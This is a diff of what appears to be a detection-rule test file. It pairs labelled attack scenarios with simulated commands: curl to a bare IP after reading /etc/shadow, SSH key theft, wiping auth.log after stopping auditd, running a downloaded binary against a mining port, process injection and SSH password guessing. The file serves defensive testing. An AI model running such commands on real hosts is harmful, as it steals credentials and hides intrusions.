@@ -1,7 +1,7 @@
 ## Shell of a server connects out
-#also Transfer tool given a bare address
 #also Download tool started by a server
 #also Shell started by a network server
+#also Transfer tool given a bare address
 server 'curl -s http://203.0.113.9/'
 ## File written by a server, then run
 #also Shell started by a network server
@@ -59,8 +59,8 @@ id; find /home -perm -4000; cat /etc/passwd
 #setup mkdir -p /root/.ssh; echo k > /root/.ssh/id_ed25519
 cat /root/.ssh/id_ed25519; ssh -o BatchMode=yes 10.9.8.7
 ## Secret read, then a connection to the internet
-#also Transfer tool given a bare address
 #also Password hashes read
+#also Transfer tool given a bare address
 cat /etc/shadow; curl -s http://203.0.113.9/
 ## Archive made, then sent away
 #also Folders of people packed into a scratch folder
@@ -83,11 +83,11 @@ systemctl stop auditd; sh -c ': > /var/log/auth.log'
 #also Terminal made for a shell
 remote "python3 -c 'import pty; pty.spawn(\"/bin/true\")'"
 ## Downloaded program connects to a mining port
-#also Program in a scratch folder connects out
 #also Connection to a mining pool
 #also Downloaded file executed
 #also Executable run from a scratch folder
 #also File in a scratch folder made executable by hand
+#also Program in a scratch folder connects out
 #also Program in a scratch folder made executable, then run
 #setup web
 curl -s -o /tmp/x http://10.9.8.7:8000/connect; chmod +x /tmp/x; /tmp/x tcp4 203.0.113.9 3333
@@ -101,12 +101,10 @@ for port in list(range(30, 50)) + [22]:
 ## Shell in a container by exec, then a download
 #also Command run in a container by hand
 #also Container started by hand
-#also Download tool in a container
 #setup image
 engine; docker run -d --name web --network none debian:12 sleep 100; docker cp /bin/true web:/usr/bin/curl; docker exec -t web sh -c 'curl http://10.9.8.7/; :'
 ## Process changed, then a connection of its own
 #also Code put into another process
-#also Code without a file connects to an address without a name
 python3 -c '
 import ctypes, os, socket, time
 word = ctypes.create_string_buffer(8); child = os.fork()
@@ -125,8 +123,8 @@ try: os.setuid(0)
 except PermissionError: pass
 sets[0] |= 128; libc.capset(head, sets); os.setuid(0)'
 ## Logins guessed, then one that worked
-#also SSH password guessing
 #also Login from the internet with a password
+#also SSH password guessing
 #setup prepare_sshd; start_log
 /usr/sbin/sshd -f /srv/sshd
 for n in 1 2 3 4; do login wrong ann 3 & done; wait; login right ann; end_log
